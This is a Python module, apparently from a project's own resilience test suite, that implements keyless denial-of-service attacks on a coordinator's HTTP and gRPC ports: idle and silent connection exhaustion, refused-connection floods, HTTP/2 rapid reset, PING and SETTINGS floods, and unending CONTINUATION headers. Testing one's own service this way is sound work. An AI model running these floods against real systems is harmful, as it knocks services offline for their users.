"""Attacks by connections that do nothing, or only control frames. They need no key."""

from __future__ import annotations

import asyncio
import contextlib
import secrets
from collections.abc import AsyncGenerator, Awaitable, Callable
from typing import TypeVar

from scripts.attack.attack import NO_KEY, Attack, Target
from scripts.attack.calls import connect
from scripts.attack.frames import (
    CANCEL,
    CONTINUATION,
    FRAME_BYTES,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    frame,
)

T = TypeVar("T")
NUM_AT_ONCE = 200
BATCH = 100
"""Frames that a flood writes at a time."""
CONNECT_TIMEOUT_S = 10.0
FILES_MAX = 1024
CHECK = "/grpc.health.v1.Health/Check"


async def http_idle(target: Target) -> AsyncGenerator[None, None]:
    """Keep 4,096 HTTP connections that send nothing; open another one for each that the pool closes."""
    yield
    num = target.many(4096)

    async def keep(started: asyncio.Semaphore) -> None:
        while True:
            try:
                async with started, asyncio.timeout(CONNECT_TIMEOUT_S):
                    reader, writer = await connect(target.http)
            except (OSError, TimeoutError):
                target.tally["not connected"] += 1
                await asyncio.sleep(1)
                continue
            target.tally["connected"] += 1
            with contextlib.suppress(OSError):
                await reader.read(1)
            target.tally["closed by the pool"] += 1
            writer.close()
            await asyncio.sleep(0.5)

    started = asyncio.Semaphore(NUM_AT_ONCE)
    async with _background(*(keep(started) for _ in range(num))):
        await asyncio.sleep(target.duration_s)
        yield


async def grpc_idle(target: Target) -> AsyncGenerator[None, None]:
    """Open 1,100 HTTP/2 connections to the gRPC door without a call."""
    yield
    kept = await _open_many(target, target.many(1100), lambda: Connection.open(target.grpc))
    await asyncio.sleep(target.duration_s)
    target.tally["closed by the pool"] += sum(each.is_closed for each in kept)
    yield
    for connection in kept:
        await connection.close()


async def grpc_silent(target: Target) -> AsyncGenerator[None, None]:
    """Open 1,100 TCP connections to the gRPC door and send nothing, like TLS handshakes that never begin."""
    yield
    kept = await _open_many(target, target.many(1100), lambda: connect(target.grpc))
    await asyncio.sleep(target.duration_s)
    target.tally["closed by the pool"] += sum(reader.at_eof() for reader, _ in kept)
    yield
    for _, writer in kept:
        writer.close()


async def http_refused(target: Target) -> AsyncGenerator[None, None]:
    """Hold more connections than the pool takes, and try again without a pause: each refusal may write a log line."""
    yield
    kept = await _open_many(target, FILES_MAX // 2 + 8, lambda: connect(target.http))
    while target.is_on():
        for _ in range(BATCH):
            with contextlib.suppress(OSError):
                _, writer = await connect(target.http)
                target.tally["connected"] += 1
                writer.close()
    yield
    for _, writer in kept:
        writer.close()


async def rapid_reset(target: Target) -> AsyncGenerator[None, None]:
    """On four connections, begin calls and reset each at once, without a pause."""
    yield

    def calls(connection: Connection) -> bytes:
        begun = [connection.head(CHECK) for _ in range(BATCH)]
        reset = CANCEL.to_bytes(4, "big")
        return b"".join(head + frame(RST_STREAM, 0, stream, reset) for stream, head in begun)

    await asyncio.gather(*(_flood(target, calls) for _ in range(4)))


async def pings(target: Target) -> AsyncGenerator[None, None]:
    """On four connections, send HTTP/2 pings and never read the replies."""
    yield
    await asyncio.gather(
        *(_flood(target, lambda _: frame(PING, 0, 0, secrets.token_bytes(8)) * BATCH, is_read=False) for _ in range(4))
    )


async def settings(target: Target) -> AsyncGenerator[None, None]:
    """On four connections, send HTTP/2 settings and never read the replies."""
    yield
    await asyncio.gather(*(_flood(target, lambda _: frame(SETTINGS, 0, 0) * BATCH, is_read=False) for _ in range(4)))


async def continuation(target: Target) -> AsyncGenerator[None, None]:
    """On four connections, begin the headers of a call and go on with them without an end."""
    yield
    piece = frame(CONTINUATION, 0, 1, bytes(FRAME_BYTES)) * 8

    def headers(connection: Connection) -> bytes:
        first = b"" if connection.has_begun else frame(HEADERS, 0, 1)
        connection.has_begun = True
        return first + piece

    await asyncio.gather(*(_flood(target, headers) for _ in range(4)))


async def _flood(target: Target, frames: Callable[[Connection], bytes], *, is_read: bool = True) -> None:
    """Write frames as long as the attack goes on, on a new connection whenever the pool closes the last one."""
    while target.is_on():
        try:
            async with asyncio.timeout(CONNECT_TIMEOUT_S):
                connection = await Connection.open(target.grpc, is_read=is_read)
        except (OSError, TimeoutError):
            target.tally["not connected"] += 1
            await asyncio.sleep(0.5)
            continue
        target.tally["connected"] += 1
        with contextlib.suppress(OSError, TimeoutError):
            while target.is_on() and not connection.is_closed:
                async with asyncio.timeout(1.0):
                    await connection.write(frames(connection))
                target.tally["frames"] += BATCH
                await asyncio.sleep(0)
        await connection.close()


async def _open_many(target: Target, num: int, make: Callable[[], Awaitable[T]]) -> list[T]:
    """Open connections, a number of them at once; return those that were made."""
    started = asyncio.Semaphore(NUM_AT_ONCE)

    async def one() -> T | None:
        try:
            async with started, asyncio.timeout(CONNECT_TIMEOUT_S):
                made = await make()
        except (OSError, TimeoutError):
            target.tally["not connected"] += 1
            return None
        target.tally["connected"] += 1
        return made

    return [made for made in await asyncio.gather(*(one() for _ in range(num))) if made is not None]


@contextlib.asynccontextmanager
async def _background(*coroutines: Awaitable[None]) -> AsyncGenerator[None, None]:
    tasks = [asyncio.ensure_future(each) for each in coroutines]
    try:
        yield
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


ATTACKS = (
    Attack(
        name="http-idle",
        by=NO_KEY,
        text="4,096 HTTP connections that send nothing, each opened again when it is closed",
        program=http_idle,
        is_held=True,
    ),
    Attack(
        name="grpc-idle",
        by=NO_KEY,
        text="1,100 gRPC connections without a call; the coordinator may open 1,024 files",
        program=grpc_idle,
        files_max=FILES_MAX,
        is_held=True,
    ),
    Attack(
        name="grpc-silent",
        by=NO_KEY,
        text="1,100 TCP connections to the gRPC door that send nothing; the coordinator may open 1,024 files",
        program=grpc_silent,
        files_max=FILES_MAX,
        is_held=True,
    ),
    Attack(
        name="tls-silent",
        by=NO_KEY,
        text="1,100 TCP connections to the gRPC door that never begin their TLS handshake; 1,024 files",
        program=grpc_silent,
        files_max=FILES_MAX,
        is_tls=True,
    ),
    Attack(
        name="http-refused",
        by=NO_KEY,
        text="connections above the highest number, without a pause; the coordinator may open 1,024 files",
        program=http_refused,
        files_max=FILES_MAX,
    ),
    Attack(
        name="rapid-reset",
        by=NO_KEY,
        text="calls that are reset as soon as they begin, without a pause, on four connections",
        program=rapid_reset,
    ),
    Attack(
        name="pings",
        by=NO_KEY,
        text="HTTP/2 pings without a pause on four connections; the replies are not read",
        program=pings,
    ),
    Attack(
        name="settings",
        by=NO_KEY,
        text="HTTP/2 settings without a pause on four connections; the replies are not read",
        program=settings,
    ),
    Attack(
        name="continuation",
        by=NO_KEY,
        text="HTTP/2 headers without an end on four connections",
        program=continuation,
    ),
)
